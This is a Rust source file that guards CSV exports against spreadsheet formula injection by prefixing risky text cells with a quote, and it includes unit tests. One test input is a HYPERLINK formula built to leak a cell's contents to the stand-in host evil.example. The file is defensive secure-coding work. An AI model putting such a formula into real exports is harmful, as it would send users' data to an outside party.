//! CSV formula injection: a spreadsheet reads a cell that begins with `=`, `+`, `-`, `@`, a
//! tab or a carriage return as a formula (OWASP, "CSV Injection"). Every CSV Anshin writes
//! passes its **text** cells — names, codes, wave names, links, anything a person typed or
//! imported — through [`text_cell`], which puts a `'` in front of such a cell so that Excel
//! and LibreOffice show it as text.
//!
//! Numbers we format ourselves (means, counts, a change of `-0.400`) are written as they are:
//! they come from our own arithmetic, never from a person, and a `'` would turn them into
//! text that Excel can no longer compute with.

use std::borrow::Cow;

/// The characters that make a spreadsheet evaluate a cell.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell as it is, or with a leading `'` if a spreadsheet would read it as a formula.
pub fn text_cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_get_a_quote_and_other_text_stays() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(text_cell(formula), format!("'{formula}"));
        }
        for text in ["総務部", "T1", "2026年度", "a=b", "", "http://x/s/ABCD"] {
            assert_eq!(text_cell(text), text);
        }
    }
}
